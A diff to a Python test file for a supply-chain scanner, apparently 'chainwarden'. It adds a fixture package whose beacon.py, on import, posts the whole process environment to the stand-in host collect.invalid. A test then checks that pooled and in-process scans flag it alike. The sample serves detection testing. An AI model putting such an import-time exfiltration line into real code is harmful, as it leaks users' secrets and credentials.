@@ -1,9 +1,12 @@
 from __future__ import annotations
 
+import threading
 from collections.abc import Iterable, Mapping
 from dataclasses import dataclass
 from pathlib import Path
 from typing import ClassVar
+
+import pytest
 
 from chainwarden.analyzers.base import Analyzer, ArtifactView
 from chainwarden.engine import Scanner, ScanOptions
@@ -104,3 +107,46 @@ def test_symlink_is_a_member_not_followed(tmp_path: Path) -> None:
         report = scanner.scan([str(root)])
     paths = {f.location.path for f in report.findings}
     assert "pkg/link.py" not in paths
+
+
+def _package_with_payload(tmp_path: Path) -> Path:
+    """A package whose `__init__` imports a module that posts the environment at import,
+    plus enough filler modules that the scan is split into several worker batches."""
+    root = tmp_path / "workers"
+    pkg = root / "pkg"
+    pkg.mkdir(parents=True)
+    (pkg / "__init__.py").write_text("from . import beacon\n")
+    (pkg / "beacon.py").write_text(
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('http://collect.invalid/', data=repr(dict(os.environ)).encode())\n"
+    )
+    filler = "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(4000))
+    for n in range(6):
+        (pkg / f"filler{n}.py").write_text(filler)
+    return root
+
+
+@pytest.mark.parametrize("other_thread", [False, True], ids=["fork", "forkserver"])
+def test_worker_pool_gives_the_same_findings_as_in_process(tmp_path: Path, other_thread: bool) -> None:
+    root = _package_with_payload(tmp_path)
+    inline = ScanOptions(jobs=1, use_cache=False)
+    pooled = ScanOptions(jobs=2, use_cache=False, pool_min_bytes=0)
+    with Scanner(inline) as scanner:
+        expected = scanner.scan([str(root)])
+    stop = threading.Event()
+    helper = threading.Thread(target=stop.wait, daemon=True)
+    if other_thread:  # a live thread makes forking unsafe: the fork server must be used
+        helper.start()
+    try:
+        with Scanner(pooled) as scanner:
+            got = scanner.scan([str(root)])
+            assert scanner._pool is not None  # the pool path really ran
+            method = scanner._pool._mp_context.get_start_method()  # type: ignore[attr-defined]
+    finally:
+        stop.set()
+    assert method == ("forkserver" if other_thread else "fork")
+    assert [(f.rule_id, f.location.path) for f in got.findings] == [
+        (f.rule_id, f.location.path) for f in expected.findings
+    ]
+    assert any(f.location.path.endswith("beacon.py") and f.severity >= Severity.HIGH for f in got.findings)
+    assert got.results[0].stats.analyzed_files == expected.results[0].stats.analyzed_files
